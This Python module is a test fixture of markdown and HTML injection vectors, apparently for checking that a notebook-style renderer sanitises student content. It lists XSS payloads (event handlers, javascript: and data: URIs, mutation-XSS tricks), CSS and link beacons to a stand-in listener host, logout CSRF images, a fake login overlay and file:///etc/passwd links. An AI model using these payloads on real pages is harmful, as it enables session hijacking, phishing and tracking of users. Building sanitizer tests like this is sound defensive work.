"""What a student may write to have a page run something, load something, or lead somewhere."""

from __future__ import annotations

__all__ = ["HERE", "VECTORS", "aimed_at"]

HERE = "//listener.example"
"""Stands for the address that must not be asked for anything."""
_RUN = "document.title='ran';new Image().src='HERE/ran'"

VECTORS = {
    # Pictures and other media that are loaded at once.
    "picture": "![x](HERE/1.png)",
    "picture of a reference": "![x][there]\n\n[there]: HERE/2.png",
    "picture without a scheme": "![x](//listener.example/3.png)",
    "picture with entities": "![x](&#104;ttps:HERE/4.png)",
    "picture tag": "<img src='HERE/5.png'>",
    "picture tag in capitals": "<IMG SRC=HERE/6.png>",
    "picture set": "<img src='data:,' srcset='HERE/7.png 1x, HERE/8.png 2x'>",
    "picture element": "<picture><source srcset='HERE/9.png'><img alt=x></picture>",
    "picture beside it": "![x](evil.svg) <img src='evil.html'>",
    "picture that logs out": "<img src='/logout'><img src='../../logout'>",
    "picture in vectors": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg=='>",
    "picture that is a page": "![x](data:text/html,<script>RUN</script>)",
    "video": "<video src='HERE/10' poster='HERE/11' autoplay></video>",
    "audio": "<audio src='HERE/12' autoplay></audio>",
    "sound behind": "<bgsound src='HERE/13'>",
    "track": "<video><track default src='HERE/14'></video>",
    "input of a picture": "<input type=image src='HERE/15'>",
    "background": "<table background='HERE/16'><tr><td background='HERE/17'>x</table>",
    "body": "<body background='HERE/18' onload=RUN>",
    # Styles.
    "style element": "<style>@import 'HERE/19'; body { background: url(HERE/20) }</style>",
    "style attribute": "<div style='background:url(HERE/21)'>x</div>",
    "style with an escape": "<div style='background:u\\72l(HERE/22)'>x</div>",
    "style of a cell": "<table><tr><td style='text-align:left;border-top:url(HERE/23)'>x</table>",
    "style with a font": "<style>@font-face{font-family:f;src:url(HERE/24)}p{font-family:f}</style>",
    "style sheet": "<link rel=stylesheet href='HERE/25'>",
    "cover": "<div style='position:fixed;inset:0;z-index:9'>log in again</div>",
    # What is fetched ahead.
    "preload": "<link rel=preload as=image href='HERE/26'>",
    "prefetch": "<link rel='dns-prefetch' href='HERE'><link rel=prefetch href='HERE/27'>",
    "icon": "<link rel=icon href='HERE/28'>",
    "manifest": "<link rel=manifest href='HERE/29'>",
    "import of a page": "<link rel=import href='HERE/30'>",
    # Pages in the page, and away from it.
    "frame": "<iframe src='HERE/31'></iframe>",
    "frame with its page": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "frame of a script": "<iframe src='javascript:parent.RUN'></iframe>",
    "frames": "<frameset><frame src='HERE/32'></frameset>",
    "object": "<object data='HERE/33'></object>",
    "embed": "<embed src='HERE/34'>",
    "applet": "<applet codebase='HERE/35' code=x></applet>",
    "portal": "<portal src='HERE/36'></portal>",
    "refresh": "<meta http-equiv=refresh content='0;url=HERE/37'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "base": "<base href='HERE/'><img src=38.png>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='img-src *'><img src='HERE/39'>",
    # Scripts.
    "script": "<script>RUN</script>",
    "script from elsewhere": "<script src='HERE/40'></script>",
    "script module": "<script type=module>import 'HERE/41'</script>",
    "script cut in two": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script with a slash": "<script/x>RUN</script>",
    "script at the end": "</section></main></body></html><script>RUN</script>",
    "handler": '<img src=x onerror="RUN">',
    "handler with a slash": '<img/src=x/onerror="RUN">',
    "handler in capitals": '<IMG SRC=x ONERROR="RUN">',
    "handler of a fold": '<details open ontoggle="RUN"><summary>x</summary></details>',
    "handler of a style": "<div style='animation:x' onanimationstart=\"RUN\">x</div>",
    "handler of focus": '<input autofocus onfocus="RUN">',
    "handler in vectors": '<svg onload="RUN"></svg>',
    "handler of a title": '![x" onerror="RUN](a)',
    "handler of a table": '<table><tr><td onmouseover="RUN">x</td></tr></table>',
    "vectors with a script": "<svg><script>RUN</script></svg>",
    "vectors with a picture": "<svg><image href='HERE/42'/><use href='HERE/43#x'/></svg>",
    "vectors that animate": "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=9>x",
    "vectors with a page": "<svg><foreignObject><iframe src='HERE/44'></iframe></foreignObject></svg>",
    "formula with a page": "<math><annotation-xml encoding='text/html'><iframe src='HERE/45'></iframe>",
    "formula with a link": "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>x</mi></math>",
    "formula that hides a tag": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=\"RUN\">'>",
    "formula with markup": '$\\text{<img src=x onerror="RUN">}$',
    "formula with a link in TeX": "$\\href{javascript:RUN}{x}$ $\\href{https:HERE}{y}$",
    "formula with a style in TeX": "$\\style{background:url(HERE/46)}{x}$ $\\class{top}{x}$",
    "formula that ends": '$</math><img src=x onerror="RUN">$',
    "hidden in a comment": '<!--><img src=x onerror="RUN">-->',
    "hidden in no script": "<noscript><p title=\"</noscript><img src=x onerror='RUN'>\"></noscript>",
    "hidden in a template": '<template><img src=x onerror="RUN"></template>',
    "hidden in a text area": "<textarea><p title=\"</textarea><img src=x onerror='RUN'>\"></textarea>",
    "hidden in a title": "<title><p title=\"</title><img src=x onerror='RUN'>\"></title>",
    "hidden in a form": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
    "hidden in a selection": '<select><template><style><img src=x onerror="RUN"></style></select>',
    "shadow": "<div><template shadowrootmode=open><script>RUN</script></template></div>",
    # Links and forms.
    "link": "[x](https:HERE/47)",
    "link to a script": "[x](javascript:RUN)",
    "link to a script with a tab": "<a href='java\tscript:RUN'>x</a>",
    "link to a script with an entity": "<a href='java&#10;script:RUN'>x</a>",
    "link to a page of data": "[x](data:text/html,x) <a href='data:text/html,x'>y</a>",
    "link beside it": "[x](evil.html) [y](./evil.html) [z](files/evil.html)",
    "link to the server": "[x](/logout) [y](/lab/tree/x) [z](//listener.example)",
    "link to a file": "[x](file:///etc/passwd) <a href='file:///etc/passwd'>y</a>",
    "link that is found": "<https:HERE/48> www.listener.example",
    "link that pings": "<a href='#top' ping='HERE/49'>x</a>",
    "link in an area": "<img usemap='#m'><map name=m><area href='HERE/50'></map>",
    "form": "<form action='HERE/51'><input name=x><button>send</button></form>",
    "button elsewhere": "<button form=f formaction='javascript:RUN'>x</button>",
    "copy of a part": "<div id=double name=top>x</div><a id=top></a>",
    "mermaid": '```mermaid\nclick x "javascript:RUN"\n<script>RUN</script>\n```',
    "fence": '```"onmouseover=RUN\nx\n```',
    "fence of HTML": "```html\n<script>RUN</script>\n```",
    "code": "`<script>RUN</script>`",
    "heading": "# <script>RUN</script>",
    "table": '| <script>RUN</script> |\n|---|\n| <img src=x onerror="RUN"> |',
    "attachment of vectors": "![x](attachment:a.svg)",
}


def aimed_at(address: str) -> dict[str, str]:
    """The vectors with a real address, as `//127.0.0.1:47001`."""
    return {
        name: text.replace("RUN", _RUN)
        .replace("HERE", f"http:{address}")
        .replace("https:http:", "http:")
        .replace(HERE, address)
        .replace("listener.example", address.strip("/"))
        for name, text in VECTORS.items()
    }
